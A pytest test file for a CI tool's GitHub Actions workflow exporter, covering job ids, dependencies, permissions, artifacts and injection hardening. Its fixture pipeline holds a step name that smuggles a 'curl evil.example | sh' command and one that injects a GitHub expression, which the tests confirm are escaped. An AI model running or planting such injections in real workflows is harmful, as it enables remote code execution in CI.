"""`export github-workflow`: a pipeline as a workflow that GitHub's schema and zizmor accept, with
valid job ids and `needs:` mirroring the DAG."""

from __future__ import annotations

import json
import shlex
import subprocess
import tarfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from ci_orchestrator.__about__ import __version__
from ci_orchestrator.commands.run import NEEDS_ENV as RUN_NEEDS_ENV
from ci_orchestrator.config import Overrides, apply_overrides, load_pipeline
from ci_orchestrator.errors import UsageError
from ci_orchestrator.github.export import (
    JOB_ID,
    NEEDS_ENV,
    PACK_SCRIPT,
    UNPACK_SCRIPT,
    ExportOptions,
    github_workflow,
    job_ids,
    limitations,
    not_run_steps,
    timeout_minutes,
    values_from_needs,
)
from ci_orchestrator.github.export_cli import (
    DEFAULT_INSTALL,
    export,
    install_requirement,
    workflow_target,
)
from ci_orchestrator.journal import JournalStore
from ci_orchestrator.model import Pipeline
from tests.conftest import assert_golden, cli
from tests.test_action import check_jsonschema, load_yaml, serious, summarize, zizmor_findings

Write = Callable[[str, str], Path]

ROOT = Path(__file__).parent.parent
# What the CLI passes by default: the exporting version (export_cli.DEFAULT_INSTALL); a fixed one
# here, so that a release does not change the golden file.
INSTALL = "ci-orchestrator==0.1.0"
OPTIONS = ExportOptions("pipeline.yml", "3.12", INSTALL)

AWKWARD = """
version: 1
name: awkward
steps:
  unit tests: {run: echo unit}
  unit-tests: {run: echo dashed}
  a.b: {run: echo dot}
  a-b: {run: echo dash, needs: [a.b]}
  a_b: {run: echo underscore, needs: [a-b, unit tests]}
  1st: {run: echo first}
  Build: {run: echo Build}
  build: {run: echo build, needs: [Build, 1st]}
  report: {run: echo a step called report}
  '"; curl evil.example | sh; echo "': {run: echo quoted}
  '${{ github.event.pull_request.title }}': {run: 'echo ${{ github.event.issue.title }}'}
  cleanup: {run: echo cleanup, needs: [build], when: always}
  notify: {run: echo notify, needs: [build], when: failure}
"""

# A project's pipeline: set-up, files and values between jobs, a failure handler, a step with no
# command and one to skip.
FILES = """
version: 1
name: shop
setup:
  - python -m pip install -e '.[test]'
  - echo ready
steps:
  build:
    run: python -m pip wheel --no-deps -w dist . && echo "id=1" >> "$CI_ORCHESTRATOR_OUTPUT"
    artifacts: [dist/*.whl]
    timeout: 10m
  docs: {run: make html, artifacts: site/**}
  test:
    needs: [build]
    run: python -m pip install dist/*.whl && pytest --junitxml=reports/pytest.xml
    junit: reports/pytest.xml
    retry: {attempts: 3, delay: 30s, backoff: 2}
    timeout: 5m
  deploy: {needs: [test, docs], run: null}
  smoke: {needs: [deploy], run: ./smoke.sh}
  notify: {needs: [smoke], when: failure, run: ./notify.sh}
"""
SHOP = Path(__file__).parent / "fixtures" / "export" / "shop.yml"


def export_text(write: Write, text: str, options: ExportOptions = OPTIONS) -> str:
    return github_workflow(load_pipeline(write("pipeline.yml", text)), options)


def export_yaml(write: Write, text: str, tmp_path: Path) -> tuple[Pipeline, dict[str, Any]]:
    pipeline = load_pipeline(write("pipeline.yml", text))
    path = tmp_path / "workflow.yml"
    path.write_text(github_workflow(pipeline, OPTIONS))
    workflow: dict[str, Any] = load_yaml(path)
    return pipeline, workflow


def as_github_reads(text: str) -> str:
    """A string after GitHub evaluated the one expression the exporter writes into literals."""
    return text.replace("${{ '${{' }}", "${{")


def step_jobs(workflow: dict[str, Any]) -> dict[str, dict[str, Any]]:
    """The jobs that run steps, by the step name they carry."""
    jobs = workflow["jobs"].values()
    return {as_github_reads(job["name"]): job for job in jobs if job["name"] != "Report"}


def job_names(workflow: dict[str, Any]) -> dict[str, str]:
    """Job id -> the name GitHub shows."""
    return {job_id: as_github_reads(job["name"]) for job_id, job in workflow["jobs"].items()}


def test_golden_demo() -> None:
    pipeline = load_pipeline(ROOT / "examples" / "demo.yml")
    text = github_workflow(pipeline, ExportOptions("examples/demo.yml", "3.12", INSTALL))
    assert_golden("export_demo.yml", text)


def test_demo_workflow_passes_the_schema_and_zizmor(tmp_path: Path) -> None:
    path = tmp_path / "demo.yml"
    path.write_text((ROOT / "tests" / "golden" / "export_demo.yml").read_text())
    done = check_jsonschema("vendor.github-workflows", path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert summarize(zizmor_findings(path)) == []


def test_awkward_workflow_passes_the_schema_and_zizmor(write: Write, tmp_path: Path) -> None:
    path = tmp_path / "awkward.yml"
    path.write_text(export_text(write, AWKWARD))
    done = check_jsonschema("vendor.github-workflows", path)
    assert done.returncode == 0, done.stdout + done.stderr
    assert serious(zizmor_findings(path)) == []


def test_job_ids_are_valid_unique_and_keep_the_names(write: Write, tmp_path: Path) -> None:
    pipeline, workflow = export_yaml(write, AWKWARD, tmp_path)
    ids = list(workflow["jobs"])
    assert all(JOB_ID.match(job_id) for job_id in ids)
    assert len({job_id.lower() for job_id in ids}) == len(ids)
    assert sorted(step_jobs(workflow)) == sorted(pipeline.steps)
    by_name = {name: job_id for job_id, name in job_names(workflow).items()}
    assert by_name["unit-tests"] == "unit-tests"  # a valid id is kept...
    assert by_name["unit tests"] == "unit-tests-2"  # ...and a name mapped onto it moves aside
    assert (by_name["a-b"], by_name["a_b"], by_name["a.b"]) == ("a-b", "a_b", "a-b-2")
    assert by_name["1st"] == "step-1st"
    assert (by_name["Build"], by_name["build"]) == ("Build", "build-2")
    assert by_name["report"] == "report"
    assert by_name["Report"] == "report-2"  # the last job, out of the steps' way


def test_job_ids_of_names_with_nothing_usable() -> None:
    assert job_ids(["!!!", "???", "-", "ünï"]) == {
        "!!!": "step",
        "???": "step-2",
        "-": "step-3",
        "ünï": "n",
    }


def test_needs_mirror_the_dag(write: Write, tmp_path: Path) -> None:
    pipeline, workflow = export_yaml(write, AWKWARD, tmp_path)
    name_of = job_names(workflow)
    for name, job in step_jobs(workflow).items():
        assert [name_of[need] for need in job.get("needs", [])] == list(pipeline.steps[name].needs)
    report = workflow["jobs"]["report-2"]
    assert [name_of[need] for need in report["needs"]] == list(pipeline.steps)
    assert report["if"] == "!cancelled()"


def test_when_becomes_the_jobs_if(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    jobs = step_jobs(workflow)
    assert jobs["cleanup"]["if"] == "!cancelled()"  # always(), but not when cancelled
    assert jobs["notify"]["if"] == "failure()"  # a job it needs, directly or not, failed
    assert "if" not in jobs["build"]


def test_each_job_runs_its_step_alone_and_uploads_its_journal(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    for job_id, job in workflow["jobs"].items():
        if job["name"] == "Report":
            continue
        checkout, _, install, run, upload = job["steps"]
        assert checkout["with"] == {"persist-credentials": False}
        assert shlex.split(install["run"]) == ["python", "-m", "pip", "install", INSTALL]
        assert shlex.split(as_github_reads(run["run"])) == [
            "ci-orchestrator", "run", "pipeline.yml", "--only", job_names(workflow)[job_id],
            "--no-deps",
            "--journal", f"journal-{job_id}.db",
            "--run-id", "gh-$GITHUB_RUN_ID-$GITHUB_RUN_ATTEMPT",
        ]  # fmt: skip
        assert upload["if"] == "always()"
        assert upload["uses"].startswith("actions/upload-artifact@")
        assert upload["with"]["path"] == f"journal-{job_id}.db"


def test_a_step_name_cannot_become_an_expression(write: Write) -> None:
    text = export_text(write, AWKWARD)
    escaped = "${{ '${{' }} github.event.pull_request.title }}"
    assert f"name: {escaped}\n" in text
    assert f"name: Run {escaped}\n" in text
    assert f"--only '{escaped}' --no-deps" in text
    assert "${{ github.event." not in text


def test_permissions_are_minimal(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, AWKWARD, tmp_path)
    assert workflow["permissions"] == {"contents": "read"}
    assert workflow["jobs"]["report-2"]["permissions"] == {
        "contents": "read",
        "pull-requests": "write",
    }
    assert all("permissions" not in job for job in step_jobs(workflow).values())


def test_report_job_merges_the_journals_and_reports(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, "version: 1\nsteps:\n  only: {run: 'true'}\n", tmp_path)
    report = workflow["jobs"]["report"]
    steps = {step.get("name", step.get("uses")): step for step in report["steps"]}
    download = steps["Download the journals"]
    assert download["uses"].startswith("actions/download-artifact@")
    assert download["with"] == {"pattern": "journal-*", "path": "journals", "merge-multiple": True}
    record = steps["Record the steps no job ran"]
    assert record["env"] == {NEEDS_ENV: "${{ toJSON(needs) }}"}
    assert "ci-orchestrator export github-not-run pipeline.yml --run-id" in record["run"]
    merge = steps["Merge the journals"]["run"]
    assert 'ci-orchestrator journal export --journal "$db"' in merge
    assert 'ci-orchestrator journal import "${runs[@]}"' in merge
    written = steps["Write JUnit XML and the job summary"]["run"]
    run_id = '--run-id "gh-$GITHUB_RUN_ID-$GITHUB_RUN_ATTEMPT"'
    assert f"ci-orchestrator report {run_id} --junit ci-orchestrator-junit.xml" in written
    assert f'report {run_id} --format markdown >> "$GITHUB_STEP_SUMMARY"' in written
    comment = steps["Comment on the pull request"]
    assert comment["run"] == f"ci-orchestrator comment {run_id}"
    assert comment["if"].endswith("&& github.event.pull_request")


def test_report_job_keeps_history_as_the_action_does(write: Write, tmp_path: Path) -> None:
    """The same steps, modes and pinned actions as action.yml's history steps, around the merge."""
    _, workflow = export_yaml(write, "version: 1\nsteps:\n  only: {run: 'true'}\n", tmp_path)
    steps = workflow["jobs"]["report"]["steps"]
    names = [step.get("name") for step in steps]
    action = load_yaml(ROOT / "action.yml")["runs"]["steps"]
    history = [s["name"] for s in action if "history" in s["name"]]
    assert [n for n in names if n and "history" in n] == history
    assert names.index("Check the restored history") < names.index("Merge the journals")
    assert names.index("Merge the journals") < names.index("Set this job's history aside")
    uses = {s["name"]: s["uses"] for s in action if "uses" in s and "history" in s["name"]}
    for step in steps:
        if step.get("name") in uses:
            assert step["uses"] == uses[step["name"]]
            assert step["with"]["key"] == "${{ steps.history.outputs.key }}"
        if "run" in step and "action_env" in step["run"]:
            mode = step["run"].split()[-1]
            assert mode.startswith("history-")
            assert step["env"] == {"INPUT_JOURNAL_PATH": "ci-orchestrator-journal.db"}
    saving = [s for s in steps if names.index(s.get("name")) > names.index("Merge the journals")]
    assert all(s["continue-on-error"] for s in saving if "history" in s["name"])


def test_pins(write: Write) -> None:
    by_sha = export_text(write, AWKWARD)
    assert "uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2\n" in by_sha
    by_tag = export_text(write, AWKWARD, ExportOptions("pipeline.yml", "3.11", INSTALL, "tag"))
    assert "uses: actions/checkout@v4\n" in by_tag
    assert "uses: actions/download-artifact@v4\n" in by_tag
    assert "python-version: '3.11'" in by_tag


def test_values_and_failure_handlers_are_no_limitation() -> None:
    assert limitations(load_pipeline(ROOT / "examples" / "demo.yml")) == []


def test_limitations_of_conditions(write: Write) -> None:
    pipeline = load_pipeline(
        write(
            "pipeline.yml",
            """
            version: 1
            steps:
              deploy: {run: ./deploy, if: 'test -n "$DEPLOY"'}
              smoke: {run: ./smoke, needs: [deploy]}
              notify: {run: ./notify, needs: [smoke], when: failure}
            """,
        )
    )
    notes = limitations(pipeline)
    assert [note.split(" ", 2)[1] for note in notes] == ["'deploy'"]
    assert "has an if: condition" in notes[0]


def test_cli_prints_or_writes_the_workflow(write: Write, tmp_path: Path) -> None:
    write(".ci-orchestrator.yml", "version: 1\nname: shop\nsteps:\n  lint: {run: echo lint}\n")
    result = CliRunner().invoke(
        export, ["github-workflow", "--install", INSTALL], catch_exceptions=False
    )
    assert result.exit_code == 0
    assert result.stdout.startswith(
        "# Generated by `ci-orchestrator export github-workflow .ci-orchestrator.yml`"
    )
    assert "ci-orchestrator run .ci-orchestrator.yml --only lint --no-deps" in result.stdout
    out = tmp_path / ".github" / "workflows" / "pipeline.yml"
    result = CliRunner().invoke(
        export,
        [
            "github-workflow",
            str(tmp_path / ".ci-orchestrator.yml"),
            "-o",
            str(out),
            "--install",
            ".",
        ],
        catch_exceptions=False,
    )
    assert result.exit_code == 0
    assert result.stdout == ""
    assert f"wrote {out}" in result.stderr
    assert "run: python -m pip install .\n" in out.read_text()


def test_cli_jobs_install_the_exporting_version_by_default(write: Write, tmp_path: Path) -> None:
    write("pipeline.yml", "version: 1\nname: shop\nsteps:\n  lint: {run: echo lint}\n")
    out = tmp_path / "workflow.yml"
    CliRunner().invoke(export, ["github-workflow", "pipeline.yml", "-o", str(out)])
    workflow = load_yaml(out)
    installs = [
        step["run"]
        for job in workflow["jobs"].values()
        for step in job["steps"]
        if step.get("name") == "Install ci-orchestrator"
    ]
    assert installs == [f"python -m pip install ci-orchestrator=={__version__}"] * 2


def test_cli_warns_about_what_does_not_cross_jobs(write: Write) -> None:
    write("pipeline.yml", FILES.replace("    artifacts: [dist/*.whl]\n", ""))
    args = ["github-workflow", "pipeline.yml", "--install", INSTALL]
    result = CliRunner().invoke(export, args, catch_exceptions=False)
    assert result.exit_code == 0
    assert result.stderr.splitlines() == [
        "warning: step 'test' reads dist/, which step 'build' writes, but jobs share no files:"
        " give 'build' `artifacts:` for dist/",
    ]


def test_cli_exports_a_template_once_its_steps_have_commands(write: Write) -> None:
    result = CliRunner().invoke(export, ["github-workflow", "ci_cd"])
    assert isinstance(result.exception, UsageError)
    assert "nothing to export: no step of 'ci_cd' has a command" in str(result.exception)
    write("ci.yml", "version: 1\nextends: ci_cd\nsteps:\n  test: {run: pytest}\n")
    args = ["github-workflow", "ci.yml", "--install", INSTALL]
    result = CliRunner().invoke(export, args, catch_exceptions=False)
    assert result.exit_code == 0
    assert "ci-orchestrator run ci.yml --only test --no-deps" in result.stdout
    assert "--only deploy" not in result.stdout  # not configured: no job
    assert result.stderr == ""


def test_cli_refuses_a_pipeline_outside_the_repository() -> None:
    result = CliRunner().invoke(export, ["github-workflow", str(ROOT / "examples" / "demo.yml")])
    assert isinstance(result.exception, UsageError)
    assert "run the export from the repository root" in str(result.exception)


def test_workflow_target(tmp_path: Path) -> None:
    assert workflow_target("ci/pipeline.yml", tmp_path) == "ci/pipeline.yml"
    assert workflow_target("ci_cd", tmp_path) == "ci_cd"
    assert workflow_target(str(tmp_path / "ci" / "p.yml"), tmp_path) == "ci/p.yml"
    with pytest.raises(UsageError, match="run the export from the repository root"):
        workflow_target("/elsewhere/p.yml", tmp_path)


# --- set-up, files, values, conditions and hardening ---


def test_steps_without_a_command_or_skipped_have_no_job(write: Write, tmp_path: Path) -> None:
    pipeline = load_pipeline(write("pipeline.yml", FILES))
    pipeline = apply_overrides(pipeline, Overrides(skip=["docs"]))
    path = tmp_path / "workflow.yml"
    path.write_text(github_workflow(pipeline, OPTIONS))
    jobs = load_yaml(path)["jobs"]
    assert list(jobs) == ["build", "test", "smoke", "notify", "report"]
    assert jobs["smoke"]["needs"] == ["test"]  # through deploy (not configured)...
    assert jobs["notify"]["needs"] == ["smoke"]
    assert jobs["report"]["needs"] == ["build", "test", "smoke", "notify"]
    record = next(
        s for s in jobs["report"]["steps"] if s.get("name") == "Record the steps no job ran"
    )
    assert "github-not-run pipeline.yml --skip docs --run-id" in record["run"]  # ...and docs
    assert jobs["smoke"]["if"] == "!cancelled()"  # see the next test


def test_a_step_skipped_on_purpose_holds_nothing_back(write: Write, tmp_path: Path) -> None:
    """As in `run --keep-going`: the jobs after a step with no command wait for what it needed,
    but only the jobs they name themselves must have passed."""
    text = """
    version: 1
    steps:
      a: {run: exit 1}
      b: {run: null, needs: [a]}
      c: {run: echo c}
      d: {run: echo d, needs: [b, c]}
      e: {run: echo e, needs: [a, b]}
    """
    _, workflow = export_yaml(write, text, tmp_path)
    jobs = workflow["jobs"]
    assert jobs["d"]["needs"] == ["a", "c"]
    assert jobs["d"]["if"] == "!cancelled() && needs.c.result == 'success'"  # runs after a failed
    assert jobs["e"]["needs"] == ["a"]
    assert "if" not in jobs["e"]  # needs a itself: skipped when a failed
    cli("run", "pipeline.yml", "--keep-going", "--journal", "j.db", cwd=tmp_path)
    run = JournalStore(tmp_path / "j.db", read_only=True).latest_run()
    assert run is not None
    assert {s.name: s.status for s in run.steps} == {
        "a": "failed",
        "b": "skipped",
        "c": "completed",
        "d": "completed",
        "e": "skipped",
    }


def test_each_job_runs_the_setup_then_its_step(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, FILES, tmp_path)
    for job_id, job in step_jobs(workflow).items():
        [run] = [step for step in job["steps"] if step.get("id") == "run"]
        assert "--no-deps --setup --journal" in run["run"], job_id
    assert "--setup" not in export_text(write, AWKWARD)  # no `setup:`, nothing to run


def test_files_cross_jobs_as_artifacts(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, FILES, tmp_path)
    jobs = step_jobs(workflow)
    names = [step.get("name") for step in jobs["build"]["steps"]]
    assert names[-3:] == [
        "Pack the artifacts of build",
        "Upload the artifacts of build",
        "Upload the journal",
    ]
    pack, upload = jobs["build"]["steps"][-3:-1]
    assert pack["if"] == upload["if"] == "!cancelled()"  # after a failure too
    assert pack["env"] == {
        "STEP": "build",
        "ARTIFACTS": "dist/*.whl",
        "ARCHIVE": "${{ runner.temp }}/artifacts-build.tar",
    }
    assert upload["uses"].startswith(
        "actions/upload-artifact@ea165f8d65b6e75b540449e92b4886f43607fa02"
    )
    assert upload["with"]["name"] == "artifacts-build"
    # test downloads what build made; smoke (after deploy, which has no job) what both did.
    for job, producers in (("test", ["build"]), ("smoke", ["build", "docs"]), ("docs", [])):
        steps = jobs[job]["steps"]
        downloads = [s for s in steps if str(s.get("name")).startswith("Download the artifacts")]
        assert [d["with"]["pattern"] for d in downloads] == [f"artifacts-{p}" for p in producers]
        if producers:
            names = [s.get("name") for s in steps]
            assert names.index("Unpack the artifacts") < names.index(f"Run {job}")


def test_pack_and_unpack_keep_paths_and_warn_of_a_glob_that_matches_nothing(tmp_path: Path) -> None:
    """The workflow's own scripts, under bash -e as GitHub runs them."""
    made = tmp_path / "made"
    (made / "dist").mkdir(parents=True)
    (made / "dist" / "app-1.0-py3-none-any.whl").write_text("wheel")
    (made / "reports" / "deep").mkdir(parents=True)
    (made / "reports" / "deep" / "cov.xml").write_text("<xml/>")
    archive = tmp_path / "artifacts-build.tar"
    env = {
        "PATH": "/usr/bin:/bin",
        "STEP": "build 100%",
        "ARTIFACTS": "dist/*.whl\nreports/**/*.xml\nsite/*.html\nmissing.txt",
        "ARCHIVE": str(archive),
    }
    done = subprocess.run(
        ["bash", "-e", "-c", PACK_SCRIPT], cwd=made, env=env, capture_output=True, text=True,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stdout.splitlines() == [
        "::warning::build 100%25: artifacts: site/*.html matched no file; no job after it gets it",
        "::warning::build 100%25: artifacts: missing.txt matched no file; no job after it gets it",
    ]
    with tarfile.open(archive) as tar:
        assert sorted(tar.getnames()) == ["dist/app-1.0-py3-none-any.whl", "reports/deep/cov.xml"]
    later = tmp_path / "later"
    (tmp_path / "temp" / "ci-orchestrator-artifacts").mkdir(parents=True)
    archive.rename(tmp_path / "temp" / "ci-orchestrator-artifacts" / archive.name)
    later.mkdir()
    env = {"PATH": "/usr/bin:/bin", "RUNNER_TEMP": str(tmp_path / "temp")}
    subprocess.run(["bash", "-e", "-c", UNPACK_SCRIPT], cwd=later, env=env, check=True)
    assert (later / "dist" / "app-1.0-py3-none-any.whl").read_text() == "wheel"
    assert (later / "reports" / "deep" / "cov.xml").exists()


def test_a_step_that_makes_nothing_still_packs_an_archive(tmp_path: Path) -> None:
    env = {"PATH": "/usr/bin:/bin", "STEP": "s", "ARTIFACTS": "dist/*", "ARCHIVE": "a.tar"}
    done = subprocess.run(
        ["bash", "-e", "-c", PACK_SCRIPT], cwd=tmp_path, env=env, capture_output=True, text=True,
        check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "dist/* matched no file" in done.stdout
    with tarfile.open(tmp_path / "a.tar") as tar:
        assert tar.getnames() == []


def test_values_cross_jobs_as_outputs(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, FILES, tmp_path)
    jobs = step_jobs(workflow)
    assert jobs["build"]["outputs"] == {"values": "${{ steps.run.outputs.values }}"}
    assert "outputs" not in jobs["notify"]  # nothing needs it
    for job in jobs.values():
        assert job["env"] == {NEEDS_ENV: "${{ toJSON(needs) }}"}
    assert NEEDS_ENV == RUN_NEEDS_ENV  # the name `run` reads


def test_values_from_needs_take_only_cio_values() -> None:
    needs = {
        "build": {"result": "success", "outputs": {"values": json.dumps({"CIO_BUILD_ID": "7"})}},
        "lint": {"result": "success", "outputs": None},
        "docs": {"result": "skipped", "outputs": {"values": ""}},
        "evil": {"outputs": {"values": json.dumps({"PATH": "/tmp", "CIO_X": 1, "CIO_OK": "y"})}},
    }
    assert values_from_needs(json.dumps(needs)) == {"CIO_BUILD_ID": "7", "CIO_OK": "y"}
    assert values_from_needs("not json") == {}
    assert values_from_needs("[]") == {}


def test_a_job_gets_the_values_of_the_jobs_before_and_hands_them_on(
    write: Write, tmp_path: Path
) -> None:
    """`run` in a job: CIO_* from $CI_ORCHESTRATOR_NEEDS, and a `values` output with its own."""
    write("pipeline.yml", FILES)
    outputs = tmp_path / "outputs.txt"
    needs = {"build": {"result": "success", "outputs": {"values": '{"CIO_BUILD_ID": "42"}'}}}
    done = cli(
        "run", "pipeline.yml", "--only", "test", "--no-deps", "--no-journal",
        "--set", 'test=echo "got $CIO_BUILD_ID"; echo "coverage=88" >> "$CI_ORCHESTRATOR_OUTPUT"',
        cwd=tmp_path, GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(outputs),
        GITHUB_STEP_SUMMARY=str(tmp_path / "summary.md"), CI_ORCHESTRATOR_NEEDS=json.dumps(needs),
    )  # fmt: skip
    assert done.returncode == 0, done.stdout + done.stderr
    assert "got 42" in done.stdout
    text = outputs.read_text()
    values = text.split("values<<", 1)[1].splitlines()[1]
    assert json.loads(values) == {"CIO_BUILD_ID": "42", "CIO_TEST_COVERAGE": "88"}


def test_a_failure_handler_runs_in_the_job_github_scheduled(write: Write, tmp_path: Path) -> None:
    """GitHub ran the job because something failed: `--only STEP --no-deps` runs the step."""
    write("pipeline.yml", FILES)
    done = cli(
        "run", "pipeline.yml", "--only", "notify", "--no-deps", "--no-journal",
        "--set", "notify=echo telling the team", cwd=tmp_path,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert "telling the team" in done.stdout


def test_a_failed_setup_fails_the_job_naming_the_setup(write: Write, tmp_path: Path) -> None:
    write(
        "pipeline.yml",
        "version: 1\nsetup: [echo fine, exit 7, echo never]\nsteps:\n  build: {run: echo built}\n",
    )
    done = cli(
        "run", "pipeline.yml", "--only", "build", "--no-deps", "--setup", "--journal", "j.db",
        cwd=tmp_path, GITHUB_ACTIONS="true", GITHUB_OUTPUT=str(tmp_path / "out"),
        GITHUB_STEP_SUMMARY=str(tmp_path / "summary.md"),
    )  # fmt: skip
    assert done.returncode == 1
    assert "::error title=set-up failed::exit code 7" in done.stdout
    assert "built" not in done.stdout
    assert "never" not in done.stdout
    run = JournalStore(tmp_path / "j.db", read_only=True).latest_run()
    assert run is not None
    assert run.status == "failed"
    assert (run.step("set-up").status, run.step("build").status) == ("failed", "skipped")
    assert run.step("build").reason == "dependency 'set-up' failed"


def test_the_steps_no_job_ran_get_the_reasons_a_local_run_gives(write: Write) -> None:
    pipeline = apply_overrides(
        load_pipeline(write("pipeline.yml", FILES)), Overrides(skip=["docs"])
    )
    needs = {
        "build": {"result": "failure"},
        "test": {"result": "skipped"},
        "smoke": {"result": "success"},  # after deploy, which has no job: it only waits
        "notify": {"result": "success"},
    }
    found = {step.name: reason for step, reason in not_run_steps(pipeline, json.dumps(needs))}
    assert found == {
        "docs": "skipped by --skip",
        "test": "dependency 'build' failed",
        "deploy": "not configured",
    }
    passed = {**needs, "build": {"result": "success"}, "test": {"result": "success"}}
    passed["notify"] = {"result": "skipped"}
    passed["smoke"] = {"result": "success"}
    found = {step.name: reason for step, reason in not_run_steps(pipeline, json.dumps(passed))}
    assert found["notify"] == "nothing it depends on failed (when: failure)"


def test_github_not_run_prints_a_journal_line(write: Write, tmp_path: Path) -> None:
    write("pipeline.yml", FILES)
    needs = {name: {"result": "success"} for name in ("build", "docs", "test", "smoke")}
    needs["notify"] = {"result": "skipped"}
    done = cli(
        "export", "github-not-run", "pipeline.yml", "--run-id", "gh-5-1", cwd=tmp_path,
        CI_ORCHESTRATOR_NEEDS=json.dumps(needs),
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    [line] = done.stdout.splitlines()
    run = json.loads(line)
    assert run["format"] == "ci-orchestrator-run/1"
    assert run["id"] == "gh-5-1"
    assert [(s["name"], s["status"]) for s in run["steps"]] == [
        ("deploy", "skipped"),
        ("notify", "skipped"),
    ]
    (tmp_path / "not-run.jsonl").write_text(done.stdout)
    imported = cli("journal", "import", "not-run.jsonl", "--journal", "j.db", cwd=tmp_path)
    assert "imported 1 new run," in imported.stdout


def test_timeouts_cover_every_attempt_and_the_setup(write: Write) -> None:
    steps = load_pipeline(write("pipeline.yml", FILES)).steps
    assert timeout_minutes(steps["build"]) == 10 + 11  # 10m + the 5s kill grace, rounded up
    # 3 attempts of 5m (and grace), waits of 30s and 60s and their jitter (a tenth of 30s each):
    # 915s + 96s, rounded up to 17 minutes.
    assert timeout_minutes(steps["test"]) == 10 + 17
    assert timeout_minutes(steps["smoke"]) == 60  # no timeout: the default


def test_triggers_concurrency_and_timeouts_in_the_workflow(write: Write, tmp_path: Path) -> None:
    _, workflow = export_yaml(write, FILES, tmp_path)
    assert workflow["on"] == {
        "push": {"branches": ["main"]},
        "pull_request": {},
        "workflow_dispatch": {},
    }
    assert all(isinstance(job["timeout-minutes"], int) for job in workflow["jobs"].values())
    assert workflow["jobs"]["report"]["timeout-minutes"] == 15
    options = replace(OPTIONS, runs_on="ubuntu-24.04", branches=("main", "release"))
    path = tmp_path / "other.yml"
    path.write_text(github_workflow(load_pipeline(tmp_path / "pipeline.yml"), options))
    other = load_yaml(path)
    assert other["on"]["push"] == {"branches": ["main", "release"]}
    assert {job["runs-on"] for job in other["jobs"].values()} == {"ubuntu-24.04"}


def test_a_project_workflow_passes_the_schema_and_zizmor(write: Write, tmp_path: Path) -> None:
    for name, text in (("files.yml", FILES), ("shop.yml", SHOP.read_text())):
        path = tmp_path / name
        path.write_text(export_text(write, text))
        done = check_jsonschema("vendor.github-workflows", path)
        assert done.returncode == 0, done.stdout + done.stderr
        assert summarize(zizmor_findings(path)) == [], name


def test_a_python_callable_step_cannot_be_exported(write: Write) -> None:
    pipeline = load_pipeline(write("pipeline.yml", FILES))
    steps = dict(pipeline.steps)
    steps["test"] = steps["test"]._replace(run=lambda: None)  # type: ignore[arg-type]
    with pytest.raises(UsageError) as info:
        github_workflow(pipeline._replace(steps=steps), OPTIONS)
    assert str(info.value) == (
        "step 'test' runs a Python callable, which a workflow cannot run; export a pipeline file"
        " whose steps are shell commands"
    )
    assert info.value.exit_code == 2


def test_files_a_step_reads_from_a_step_before_it(write: Write) -> None:
    pipeline = load_pipeline(
        write(
            "pipeline.yml",
            """
            version: 1
            steps:
              build: {run: python -m build && python -m pip wheel -w dist .}
              test: {needs: [build], run: pytest --junitxml=reports/unit.xml, junit: reports/unit.xml}
              coverage: {needs: [test], run: coverage report --data-file reports/.coverage}
              docs: {run: mkdir -p build/html && sphinx-build -b html . build/html}
              publish: {needs: [docs, build], run: 'cp -r build/html site && twine upload dist/*'}
              lint: {run: ruff check . > lint.txt}
              notes: {needs: [lint], run: cat lint.txt}
            """,
        )
    )
    assert limitations(pipeline) == [
        "step 'coverage' reads reports/, which step 'test' writes, but jobs share no files: give"
        " 'test' `artifacts:` for reports/",
        "step 'publish' reads build/, which step 'docs' writes, but jobs share no files: give"
        " 'docs' `artifacts:` for build/",
        "step 'publish' reads dist/, which step 'build' writes, but jobs share no files: give"
        " 'build' `artifacts:` for dist/",
    ]  # lint.txt: not a path the file shows as one (neither junit: nor artifacts:)
    covered = apply_overrides(pipeline, Overrides())
    steps = dict(covered.steps)
    steps["build"] = steps["build"]._replace(artifacts=("dist/*.whl",))
    steps["test"] = steps["test"]._replace(artifacts=("reports/",))
    steps["docs"] = steps["docs"]._replace(artifacts=("build/html/**",))
    assert limitations(covered._replace(steps=steps)) == []


def test_the_default_install_is_the_exporting_source() -> None:
    assert install_requirement(None) == (DEFAULT_INSTALL, None)
    commit = "0123456789abcdef0123456789abcdef01234567"
    vcs = {
        "url": "https://github.com/o/ci-orchestrator",
        "vcs_info": {"vcs": "git", "commit_id": commit},
    }
    assert install_requirement(vcs) == (
        f"ci-orchestrator @ git+https://github.com/o/ci-orchestrator@{commit}",
        None,
    )
    archive = {
        "url": "https://example.com/ci_orchestrator-1.0-py3-none-any.whl",
        "archive_info": {"hashes": {"sha256": "ab12"}},
    }
    assert install_requirement(archive)[0] == (
        "ci-orchestrator @ https://example.com/ci_orchestrator-1.0-py3-none-any.whl#sha256=ab12"
    )
    local = {"url": "file:///work/ci-orchestrator", "dir_info": {"editable": True}}
    requirement, note = install_requirement(local)
    assert requirement == DEFAULT_INSTALL == f"ci-orchestrator=={__version__}"
    assert note is not None
    assert "file:///work/ci-orchestrator" in note
    assert "--install" in note
